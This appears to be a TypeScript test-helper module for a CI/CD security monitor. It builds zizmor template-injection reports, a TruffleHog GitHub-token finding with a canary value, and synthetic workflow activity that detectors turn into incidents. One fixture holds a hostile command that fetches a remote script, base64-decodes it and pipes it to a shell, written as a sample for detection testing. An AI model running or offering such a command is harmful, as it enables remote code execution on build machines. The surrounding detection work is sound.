// Reports of scanners through the real collector, and what happens through the real detectors: which incidents that makes.
import { createHash } from 'node:crypto';
import { onTestFinished } from 'vitest';
import { detectors } from '../../../detectors/index.ts';
import { createEngine } from '../../../services/analyzer/engine.ts';
import { type ReportContext, takeReport } from '../../../services/collector/results/results.ts';
import type { Activity } from '../../../services/core/activity.ts';
import { activityAt } from '../../../services/core/detector-case.ts';
import type { Incident } from '../../../services/core/incident.ts';
import { DAY, HOUR, MINUTE } from '../../../services/core/time.ts';
import { createRedactor } from '../../../services/redactor/engine.ts';
import { CANARY, NOW, startCollecting } from '../../collector/collecting.ts';
import { sarifOf } from '../../collector/results/reports.ts';
import { startAnalyzing } from '../analyzing.ts';

export const WORKFLOW = '.github/workflows/triage.yml';
export const REPOSITORY = 'orchard/press';
export { DAY, HOUR, MINUTE, NOW };

/** What one report tells, in its order; or one thing that happened. */
export type Block = readonly Activity[];

/** The activities of a report that comes `at`. */
export async function report(
  content: object | string,
  at: number,
  context: Omit<ReportContext, 'run_id'> = {},
): Promise<Block> {
  const collecting = await startCollecting();
  const text = typeof content === 'string' ? content : JSON.stringify(content);
  const made = { repository: REPOSITORY, run_id: `scan ${at}`, content: Buffer.from(text), received_at: at };
  try {
    const redactor = createRedactor({ key: new Uint8Array(32) });
    await takeReport({ ...made, ...context }, { collector: collecting.collector, redactor });
    return await collecting.activities();
  } finally {
    await collecting.close();
  }
}

/** zizmor's, of a workflow that lets strangers in. */
export function injection(path = WORKFLOW, rule = 'zizmor/template-injection', more: object = {}): object {
  return sarifOf('zizmor', rule, ['security'], [{ path, line: 17 }], () => more);
}

export const nothing = sarifOf('zizmor', 'zizmor/template-injection', [], []);

/** A run of the workflow by somebody’s comment, in which something encoded is decoded and run: medium. */
export function decoded(at: number, more: { readonly trigger?: string; readonly definition?: string } = {}): Block {
  const { trigger = 'issue_comment', definition = WORKFLOW } = more;
  const vcs = { repository: { name: REPOSITORY } };
  const pipeline = { name: 'triage', definition, run: { id: String(at), trigger } };
  const run = activityAt(
    at - MINUTE,
    'run',
    { action: 'requested' },
    { source: 'github.webhook', vcs, cicd: { pipeline } },
  );
  const process = activityAt(
    at,
    'process',
    { action: 'start' },
    {
      source: 'tetragon',
      vcs,
      cicd: { pipeline: { ...pipeline, task: { name: 'label' } } },
      process: {
        executable: '/usr/bin/bash',
        command_line: 'bash -c "curl -s https://example.net/x | base64 -d | sh"',
      },
    },
  );
  return [run, process];
}

/** TruffleHog’s, of a token of GitHub’s. */
export function token(verified = false): string {
  const Git = {
    file: 'scripts/release.sh',
    line: 3,
    commit: 'a'.repeat(40),
    repository: `https://github.com/${REPOSITORY}.git`,
  };
  return `${JSON.stringify({ DetectorName: 'Github', Verified: verified, Raw: CANARY, SourceMetadata: { Data: { Git } } })}\n`;
}

/** What GitHub’s audit log calls that token. */
export const TOKEN_ID = createHash('sha256').update(CANARY).digest('base64');

/** In one thread, without a log; the newest state of each. */
export function incidentsIn(...blocks: readonly Block[]): readonly Incident[] {
  const engine = createEngine({
    detectors,
    onFault(_detector, _activity, error): never {
      throw error;
    },
  });
  const incidents = new Map<string, Incident>();
  for (const activity of blocks.flat()) {
    for (const incident of engine.take(activity).incidents) incidents.set(incident.id, incident);
  }
  return [...incidents.values()].filter(({ status }) => status !== 'merged');
}

/** On a log of twelve partitions, each block on its own; what was known is read anew between them where it says so. */
export async function incidentsOnLog(blocks: readonly Block[], restarting = false): Promise<readonly Incident[]> {
  const analyzing = await startAnalyzing();
  onTestFinished(() => analyzing.close());
  for (const block of blocks) {
    await analyzing.take(...block);
    if (restarting) await analyzing.reopen();
  }
  return (await analyzing.incidents()).filter(({ status }) => status !== 'merged');
}
